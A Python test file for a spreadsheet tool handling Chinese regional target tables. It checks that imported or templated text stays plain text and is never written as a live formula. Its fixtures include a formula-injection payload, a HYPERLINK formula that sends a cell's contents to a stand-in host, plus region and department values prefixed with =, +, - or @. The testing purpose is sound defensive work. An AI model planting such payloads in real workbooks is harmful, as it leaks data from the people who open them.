"""Text from outside is never written as a live formula: import, template and write-back (issue 12, item 4)."""

from __future__ import annotations

from openpyxl import Workbook, load_workbook

LINK = '=HYPERLINK("http://example.invalid/?"&A3,"南浔")'
REGIONS = ["吴兴", LINK, "德清", "长兴", "安吉", "+南太湖"]


def _raw(path):
    wb = Workbook()
    ws = wb.active
    ws.title = "分解"
    ws.append(["2024年主要指标任务分解表"])
    ws.append(["指标名称", *REGIONS, "全市", "责任部门"])
    ws.append(["工业企业数(家)", 1, 2, 3, 4, 5, 6, 21, "@经信局"])
    ws.append(["制造业投资增长(%)", 5, 5, 5, 5, 5, 5, 5, "-发改委"])
    for row in ws.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # typed as text in the source, as a clerk pastes it
    wb.save(path)
    return path


def _formulas_from_outside(path):
    """Cells of the written workbook that hold a formula built from outside text."""
    wb = load_workbook(path)
    found = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" and any(word in str(cell.value) for word in ("HYPERLINK", "南太湖", "经信局", "发改委")):
                    found.append(f"{ws.title}!{cell.coordinate}")
    return found


def test_import_keeps_formula_like_text_as_text_and_counts_every_region(runner, tmp_path):
    raw = _raw(tmp_path / "附件.xlsx")
    before = runner.invoke("check", raw, "--json").json()
    out = tmp_path / "分解表.xlsx"
    result = runner.invoke("import", raw, "-o", out)
    assert result.exit_code == 0, result.stderr
    assert "6 个地区" in result.stdout
    assert _formulas_from_outside(out) == []
    wb = load_workbook(out)
    assert LINK in [c.value for c in wb["分解"][2]] and LINK in [c.value for c in wb["进度"][2]]
    assert LINK in [c.value for c in wb["基数"]["A"]]
    after = runner.invoke("check", out, "--json").json()
    assert [t["regions"] for t in after["summary"]["tables"]] == [REGIONS]
    assert [f["code"] for f in after["findings"]] == [f["code"] for f in before["findings"]]
    assert "split-short" not in [f["code"] for f in after["findings"]]


def test_a_template_for_formula_like_names_holds_them_as_text(runner, tmp_path):
    out = tmp_path / "模板.xlsx"
    result = runner.invoke("new", "-o", out, "--regions", "=1+1,+吴兴,-南浔,@德清")
    assert result.exit_code == 0, result.stderr
    wb = load_workbook(out)
    assert [c.value for c in wb["分解"][2]][7:11] == ["=1+1", "+吴兴", "-南浔", "@德清"]
    assert all(c.data_type == "s" for c in wb["分解"][2][7:11])
    assert all(c.data_type == "s" for c in wb["基数"]["A"][1:5])
